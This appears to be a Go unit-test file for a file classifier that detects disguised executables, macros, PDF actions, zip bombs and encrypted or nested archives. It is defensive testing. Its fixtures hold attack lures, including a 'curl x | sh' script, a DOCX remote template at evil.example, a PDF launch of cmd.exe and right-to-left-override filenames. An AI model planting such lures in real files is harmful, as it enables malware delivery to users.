@@ -1,0 +1,291 @@
+package filetype
+
+import (
+	"archive/zip"
+	"bytes"
+	"errors"
+	"io"
+	"slices"
+	"strings"
+	"testing"
+	"time"
+
+	"golang.org/x/text/encoding/japanese"
+)
+
+type classifyCase struct {
+	name     string
+	data     []byte
+	declared string
+	filename string
+	lim      Limits
+
+	class    Class
+	sniffed  string   // "" → not checked
+	exe, enc bool     // Result.Executable, Result.Encrypted
+	findings []string // each must be among Result.Findings
+	clean    bool     // no findings at all
+	mismatch string   // exact Result.Mismatch ("" → must be empty)
+}
+
+func sjis(t testing.TB, s string) []byte {
+	b, err := japanese.ShiftJIS.NewEncoder().Bytes([]byte(s))
+	if err != nil {
+		t.Fatal(err)
+	}
+	return b
+}
+
+func TestClassify(t *testing.T) {
+	zeros := make([]byte, 20<<20)
+	exe := peFile()
+	aesExtra := []byte{0x01, 0x99, 0x07, 0x00, 0x02, 0x00, 'A', 'E', 0x03, 0x08, 0x00}
+
+	cases := []classifyCase{
+		// Plain content, names and declared types.
+		{name: "text", data: []byte("会議は3時からです。\r\n"), declared: "text/plain; charset=utf-8", filename: "memo.txt",
+			class: ClassText, sniffed: "text/plain", clean: true},
+		{name: "csv declared as excel by Windows", data: []byte("名前,数量\r\nりんご,3\r\n"), declared: "application/vnd.ms-excel", filename: "集計.csv",
+			class: ClassText, sniffed: "text/plain", clean: true},
+		{name: "pdf", data: pdfFile(""), declared: "application/pdf", filename: "議事録.pdf",
+			class: ClassPDF, sniffed: "application/pdf", clean: true},
+		{name: "exe disguised as pdf", data: exe, declared: "application/pdf", filename: "invoice.pdf",
+			class: ClassExecutable, sniffed: "application/x-msdownload", exe: true,
+			mismatch: "declared application/pdf, extension .pdf, content application/x-msdownload"},
+		{name: "double extension", data: exe, declared: "application/octet-stream", filename: "invoice.pdf.exe",
+			class: ClassExecutable, exe: true, findings: []string{"filename: double extension .pdf.exe"}},
+		{name: "trailing dots and spaces", data: []byte("echo hi\r\n"), filename: "run.bat. . .",
+			class: ClassExecutable, exe: true},
+		{name: "windows path", data: []byte("WScript.Echo 1\r\n"), filename: `C:\Users\x\Desktop\LOVE.VBS`,
+			class: ClassExecutable, exe: true},
+		{name: "alternate data stream", data: []byte("text"), filename: "a.exe::$DATA",
+			class: ClassExecutable, exe: true, mismatch: "extension .exe, content text/plain"},
+		{name: "nul truncation", data: []byte("text"), filename: "a.exe\x00.txt",
+			class: ClassExecutable, exe: true, mismatch: "extension .exe, content text/plain"},
+		{name: "right-to-left override", data: []byte("just text"), declared: "text/plain", filename: "photo\u202Egpj.txt",
+			class: ClassExecutable, findings: []string{`filename: bidi control U+202E in photo\u202Egpj.txt`}},
+		{name: "declared executable", data: []byte("hello"), declared: "application/x-msdownload", filename: "",
+			class: ClassExecutable, exe: true, mismatch: "declared application/x-msdownload, content text/plain"},
+		{name: "octet-stream is no mismatch", data: pngImage(t), declared: "application/octet-stream", filename: "dot.png",
+			class: ClassImage, sniffed: "image/png", clean: true},
+		{name: "unknown declared type is other", data: pngImage(t), declared: "application/x-whatever", filename: "",
+			class: ClassOther, mismatch: "declared application/x-whatever, content image/png"},
+		{name: "image family agrees", data: pngImage(t), declared: "image/jpeg", filename: "dot.jpg",
+			class: ClassImage, sniffed: "image/png"},
+		{name: "html as text", data: []byte("<!DOCTYPE html><html><body onload=x()>hi</body></html>"), declared: "text/plain", filename: "readme.txt",
+			class: ClassOther, sniffed: "text/html", mismatch: "declared text/plain, extension .txt, content text/html"},
+		{name: "javascript is a script", data: []byte("var s = new ActiveXObject('WScript.Shell');\n"), declared: "text/plain", filename: "a.js",
+			class: ClassExecutable, exe: true, mismatch: "declared text/plain, extension .js, content text/plain"},
+		{name: "shebang", data: []byte("#!/bin/sh\ncurl x | sh\n"), filename: "install",
+			class: ClassExecutable, sniffed: "text/x-shellscript", exe: true},
+		{name: "msi by content", data: oleFile(clsidMSI, oleEnt{"\u4840\u3b3f\u4577", 2}), filename: "setup.doc",
+			class: ClassExecutable, sniffed: "application/x-msi", exe: true, mismatch: "extension .doc, content application/x-msi"},
+		{name: "doc with macros", data: oleFile(clsidWord, oleEnt{"WordDocument", 2}, oleEnt{"Macros", 1}, oleEnt{"VBA", 1}), filename: "請求書.doc",
+			class: ClassOffice, sniffed: "application/msword", findings: []string{"office: macros"}},
+		{name: "password-protected docx", data: oleFile(make([]byte, 16), oleEnt{"EncryptionInfo", 2}, oleEnt{"EncryptedPackage", 2}), filename: "見積.docx",
+			class: ClassEncryptedArchive, enc: true, findings: []string{"office: encrypted document"}},
+		{name: "rtf with object", data: []byte(`{\rtf1\ansi{\object\objemb{\*\objdata 0105000002}}}`), filename: "a.rtf",
+			class: ClassOffice, sniffed: "application/rtf", findings: []string{"office: embedded object"}},
+		{name: "pdf javascript", data: pdfFile("/OpenAction << /S /JavaScript /JS (app.alert(1)) >>"), filename: "a.pdf",
+			class: ClassPDF, findings: []string{"pdf: javascript"}},
+		{name: "pdf hex-escaped names", data: pdfFile("/OpenAction << /S /L#61unch /F (cmd.exe) >> /Names << /#45mbeddedFiles 3 0 R >>"), filename: "a.pdf",
+			class: ClassPDF, findings: []string{"pdf: launch action", "pdf: embedded file"}},
+		{name: "pdf after junk", data: append([]byte("\x00\x01junk junk\n"), pdfFile("")...), filename: "a.pdf",
+			class: ClassPDF, sniffed: "application/pdf"},
+		{name: "tnef", data: []byte("\x78\x9f\x3e\x22\x01\x00\x01\x06\x90\x08\x00"), declared: "application/ms-tnef", filename: "winmail.dat",
+			class: ClassOther, sniffed: "application/ms-tnef", clean: true},
+		{name: "rar not inspected", data: []byte("Rar!\x1a\x07\x01\x00\x33\x92\xb5\xe5\x0a\x01\x05\x06\x00\x05\x01\x01\x80\x80\x00"), filename: "a.rar",
+			class: ClassArchive, sniffed: "application/vnd.rar", findings: []string{"archive not inspected: rar"}},
+		{name: "iso is an archive", data: isoImage(), filename: "invoice.iso",
+			class: ClassArchive, sniffed: "application/x-iso9660-image", findings: []string{"archive not inspected: iso9660 disk image"}},
+		{name: "zip appended to image", data: append(pngImage(t), zipFile(t, deflate("run.vbs", []byte("x")))...), filename: "cat.png",
+			class: ClassExecutable, exe: true, findings: []string{"zip: archive appended to image/png", "archive: executable entry run.vbs"}},
+
+		// ZIP archives.
+		{name: "zip of documents", data: zipFile(t, deflate("a.txt", []byte("hello")), deflate("b.pdf", pdfFile(""))), declared: "application/zip", filename: "docs.zip",
+			class: ClassArchive, sniffed: "application/zip", clean: true},
+		{name: "ppap", data: zipFile(t, zent{name: "secret.docx", data: []byte("\x8a\x1e encrypted bytes"), raw: true, size: 9000, flags: 1}), filename: "資料.zip",
+			class: ClassEncryptedArchive, enc: true, findings: []string{"zip: encrypted entry secret.docx"}},
+		{name: "aes extra field", data: zipFile(t, zent{name: "x.xlsx", data: []byte("0123456789abcdef"), raw: true, size: 100, method: 99, extra: aesExtra}), filename: "a.zip",
+			class: ClassEncryptedArchive, enc: true, findings: []string{"zip: encrypted entry x.xlsx"}},
+		{name: "encrypted executable", data: zipFile(t, zent{name: "setup.exe", data: []byte("0123456789"), raw: true, size: 10, flags: 1}), filename: "a.zip",
+			class: ClassExecutable, exe: true, enc: true},
+		{name: "executable by content", data: zipFile(t, deflate("photo.jpg", exe)), filename: "photos.zip",
+			class: ClassExecutable, exe: true, findings: []string{"archive: executable entry photo.jpg"}},
+		{name: "nested zip", data: zipFile(t, deflate("inner.zip", zipFile(t, deflate("evil.exe", exe)))), filename: "a.zip",
+			class: ClassExecutable, exe: true, findings: []string{"zip: nested archive inner.zip", "archive: executable entry inner.zip/evil.exe"}},
+		{name: "nested stored zip", data: zipFile(t, stored("inner.zip", zipFile(t, zent{name: "s.pdf", data: []byte("x"), raw: true, size: 1, flags: 1}))), filename: "a.zip",
+			class: ClassEncryptedArchive, enc: true, findings: []string{"zip: encrypted entry inner.zip/s.pdf"}},
+		{name: "nesting too deep", data: nestZips(t, zipFile(t, deflate("deep.exe", exe)), 4), filename: "a.zip",
+			class: ClassArchive, findings: []string{"archive: nesting too deep level1.zip/level2.zip/level3.zip"}},
+		{name: "nesting within limit", data: nestZips(t, zipFile(t, deflate("deep.exe", exe)), 2), filename: "a.zip",
+			class: ClassExecutable, exe: true, findings: []string{"archive: executable entry level1.zip/level2.zip/deep.exe"}},
+		{name: "zip bomb by ratio", data: zipFile(t, deflate("zeros.bin", zeros)), filename: "a.zip",
+			class: ClassArchive, findings: []string{"archive: ratio exceeded zeros.bin", "archive: ratio exceeded (overall)"}},
+		{name: "lying size header", data: zipFile(t, zent{name: "small.txt", data: deflated(t, zeros), raw: true, size: 100, method: zip.Deflate}), filename: "a.zip",
+			class: ClassArchive, findings: []string{"archive: corrupt entry small.txt: zip: not a valid zip file"}},
+		{name: "total size", data: zipFile(t, deflate("a.txt", bytes.Repeat([]byte("abcdefgh\n"), 200<<10)), deflate("b.txt", bytes.Repeat([]byte("abcdefgh\n"), 200<<10))),
+			filename: "a.zip", lim: Limits{MaxTotal: 2 << 20},
+			class: ClassArchive, findings: []string{"archive: total size exceeded (3686400 bytes declared)"}},
+		{name: "too many entries", data: manyEntries(t, 30), filename: "a.zip", lim: Limits{MaxEntries: 10},
+			class: ClassArchive, findings: []string{"archive: too many entries (more than 10)"}},
+		{name: "shift_jis entry name", data: zipFile(t, zent{name: string(sjis(t, "請求書.exe")), data: exe, method: zip.Deflate, nonUTF8: true}), filename: "a.zip",
+			class: ClassExecutable, exe: true, findings: []string{"archive: executable entry 請求書.exe"}},
+		{name: "corrupt zip", data: zipFile(t, deflate("run.exe", exe), deflate("b.txt", []byte("b")))[:200], filename: "a.zip",
+			class: ClassExecutable, exe: true, findings: []string{"zip: corrupt: not a valid zip", "archive: executable entry run.exe"}},
+		{name: "jar", data: zipFile(t, deflate("META-INF/MANIFEST.MF", []byte("Main-Class: A\n")), deflate("A.class", javaClass())), filename: "tool.zip",
+			class: ClassExecutable, sniffed: "application/java-archive", exe: true, findings: []string{"zip: java archive"},
+			mismatch: "extension .zip, content application/java-archive"},
+
+		// Office Open XML.
+		{name: "docx", data: docx(t), declared: "application/vnd.openxmlformats-officedocument.wordprocessingml.document", filename: "議事録.docx",
+			class: ClassOffice, sniffed: mimeDocx, clean: true},
+		{name: "docx declared as zip", data: docx(t), declared: "application/x-zip-compressed", filename: "議事録.docx",
+			class: ClassOffice, sniffed: mimeDocx, clean: true},
+		{name: "docx with vbaProject.bin", data: docx(t, deflate("word/vbaProject.bin", oleFile(make([]byte, 16), oleEnt{"VBA", 1}, oleEnt{"_VBA_PROJECT", 2}))), filename: "請求書.docx",
+			class: ClassOffice, sniffed: mimeDocm, findings: []string{"office: macros"}},
+		{name: "docx with renamed vba project", data: docx(t, deflate("word/media/image9.bin", oleFile(make([]byte, 16), oleEnt{"VBA", 1}))), filename: "a.docx",
+			class: ClassOffice, sniffed: mimeDocm, findings: []string{"office: macros"}},
+		{name: "docx remote template", data: docx(t, deflate("word/_rels/settings.xml.rels", []byte(`<Relationships><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" Target="http://evil.example/t.dotm" TargetMode="External"/></Relationships>`))), filename: "a.docx",
+			class: ClassOffice, findings: []string{"office: external reference attachedtemplate in word/_rels/settings.xml.rels"}},
+		{name: "docx carrying an executable", data: docx(t, deflate("word/embeddings/a.exe", exe)), filename: "a.docx",
+			class: ClassExecutable, exe: true},
+		{name: "zip named docx", data: zipFile(t, deflate("a.txt", []byte("x"))), filename: "a.docx",
+			class: ClassArchive, sniffed: "application/zip", mismatch: "extension .docx, content application/zip"},
+
+		// gzip and tar.
+		{name: "tar.gz with executable", data: gzipOf(t, "", tarFile(t, map[string][]byte{"a.txt": []byte("a"), "bin/tool": elfFile()}, "a.txt", "bin/tool")), filename: "src.tar.gz",
+			class: ClassExecutable, exe: true, findings: []string{"archive: executable entry bin/tool"}},
+		{name: "gzip of script by member name", data: gzipOf(t, "update.ps1", []byte("Invoke-WebRequest x\n")), filename: "update.gz",
+			class: ClassExecutable, exe: true, findings: []string{"archive: executable entry update.ps1"}},
+		{name: "tar of text", data: tarFile(t, map[string][]byte{"a.txt": []byte("a"), "b.csv": []byte("1,2\n")}, "a.txt", "b.csv"), filename: "a.tar",
+			class: ClassArchive, sniffed: "application/x-tar", clean: true},
+		{name: "zip inside tar", data: tarFile(t, map[string][]byte{"x.zip": zipFile(t, zent{name: "p.doc", data: []byte("x"), raw: true, size: 1, flags: 1})}, "x.zip"), filename: "a.tar",
+			class: ClassEncryptedArchive, enc: true, findings: []string{"zip: encrypted entry x.zip/p.doc"}},
+	}
+	for _, tc := range cases {
+		t.Run(tc.name, func(t *testing.T) {
+			res, err := Classify(bytes.NewReader(tc.data), int64(len(tc.data)), tc.declared, tc.filename, tc.lim)
+			if err != nil {
+				t.Fatalf("Classify: %v", err)
+			}
+			checkResult(t, tc, res)
+		})
+	}
+}
+
+func checkResult(t *testing.T, tc classifyCase, res Result) {
+	t.Helper()
+	if res.Class != tc.class {
+		t.Errorf("Class = %q, want %q (result %+v)", res.Class, tc.class, res)
+	}
+	if tc.sniffed != "" && res.SniffedType != tc.sniffed {
+		t.Errorf("SniffedType = %q, want %q", res.SniffedType, tc.sniffed)
+	}
+	if res.Executable != tc.exe {
+		t.Errorf("Executable = %v, want %v", res.Executable, tc.exe)
+	}
+	if res.Encrypted != tc.enc {
+		t.Errorf("Encrypted = %v, want %v", res.Encrypted, tc.enc)
+	}
+	for _, f := range tc.findings {
+		if !slices.Contains(res.Findings, f) {
+			t.Errorf("finding %q missing from %q", f, res.Findings)
+		}
+	}
+	if tc.clean && len(res.Findings) > 0 {
+		t.Errorf("Findings = %q, want none", res.Findings)
+	}
+	if res.Mismatch != tc.mismatch {
+		t.Errorf("Mismatch = %q, want %q", res.Mismatch, tc.mismatch)
+	}
+	checkInvariants(t, res)
+}
+
+// checkInvariants holds for every input (the fuzz targets use it too).
+func checkInvariants(t testing.TB, res Result) {
+	t.Helper()
+	if !res.Class.Valid() {
+		t.Errorf("Class %q is not one of the eight", res.Class)
+	}
+	if res.Executable && res.Class != ClassExecutable {
+		t.Errorf("Executable but Class %q", res.Class)
+	}
+	if res.Encrypted && res.Class != ClassExecutable && res.Class != ClassEncryptedArchive {
+		t.Errorf("Encrypted but Class %q", res.Class)
+	}
+	if res.SniffedType == "" {
+		t.Error("empty SniffedType")
+	}
+	if len(res.Findings) > 100 {
+		t.Errorf("%d findings", len(res.Findings))
+	}
+}
+
+func manyEntries(t testing.TB, n int) []byte {
+	var ents []zent
+	for i := 0; i < n; i++ {
+		ents = append(ents, stored(strings.Repeat("x", i%7+1)+string(rune('a'+i%26))+".txt", []byte("x")))
+	}
+	return zipFile(t, ents...)
+}
+
+// A ZIP of 100,000 entries: only MaxEntries of them cost anything.
+func TestClassifyHugeDirectory(t *testing.T) {
+	var b bytes.Buffer
+	zw := zip.NewWriter(&b)
+	for i := 0; i < 100000; i++ {
+		fh := &zip.FileHeader{Name: "f", Method: zip.Store}
+		if _, err := zw.CreateHeader(fh); err != nil {
+			t.Fatal(err)
+		}
+	}
+	zw.Close()
+	start := time.Now()
+	res, err := Classify(bytes.NewReader(b.Bytes()), int64(b.Len()), "", "many.zip", Limits{})
+	if err != nil {
+		t.Fatal(err)
+	}
+	if res.Class != ClassArchive || !slices.Contains(res.Findings, "archive: too many entries (more than 1000)") {
+		t.Errorf("got %+v", res)
+	}
+	if d := time.Since(start); d > 2*time.Second {
+		t.Errorf("took %v", d)
+	}
+}
+
+// A local header whose name differs from the central directory's: the
+// extractor that reads local headers would write run.exe.
+func TestClassifyLocalNameDiffers(t *testing.T) {
+	data := zipFile(t, deflate("run.txt", []byte("MZ? no, text")))
+	i := bytes.Index(data, []byte("run.txt")) // the local header comes first
+	copy(data[i:], "run.exe")
+	res, err := Classify(bytes.NewReader(data), int64(len(data)), "", "a.zip", Limits{})
+	if err != nil {
+		t.Fatal(err)
+	}
+	if res.Class != ClassExecutable || !slices.Contains(res.Findings, "zip: local name differs run.txt (local: run.exe)") {
+		t.Errorf("got %+v", res)
+	}
+}
+
+type failingReader struct{ after int64 }
+
+func (f failingReader) ReadAt(p []byte, off int64) (int, error) {
+	if off+int64(len(p)) > f.after {
+		return 0, errors.New("disk on fire")
+	}
+	return len(p), nil
+}
+
+func TestClassifyReadError(t *testing.T) {
+	_, err := Classify(failingReader{after: 10}, 1<<20, "", "a.bin", Limits{})
+	if err == nil || !strings.Contains(err.Error(), "disk on fire") {
+		t.Fatalf("err = %v, want the reader's error", err)
+	}
+	// A reader shorter than the size it was given is an error too.
+	_, err = Classify(bytes.NewReader([]byte("short")), 100, "", "a.txt", Limits{})
+	if !errors.Is(err, io.ErrUnexpectedEOF) {
+		t.Fatalf("err = %v, want ErrUnexpectedEOF", err)
+	}
+}
